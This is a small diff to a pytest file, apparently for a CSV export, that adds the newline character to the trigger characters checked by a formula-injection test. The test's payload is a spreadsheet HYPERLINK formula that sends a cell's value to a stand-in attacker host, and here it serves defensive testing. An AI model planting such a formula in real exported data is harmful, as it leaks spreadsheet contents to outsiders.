@@ -71,7 +71,7 @@ def test_rows_end_with_crlf_and_line_breaks_inside_cells_stay_quoted():
     assert b'"oben\nunten"' in data
 
 
-@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
+@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r", "\n"])
 def test_cells_that_a_spreadsheet_would_run_are_prefixed_with_an_apostrophe(trigger: str):
     payload = trigger + 'HYPERLINK("http://böse.example/?x="&A1)'
     rows = [_row(statement=payload, quote=payload, claimant=payload, article_title=payload, sources=payload)]
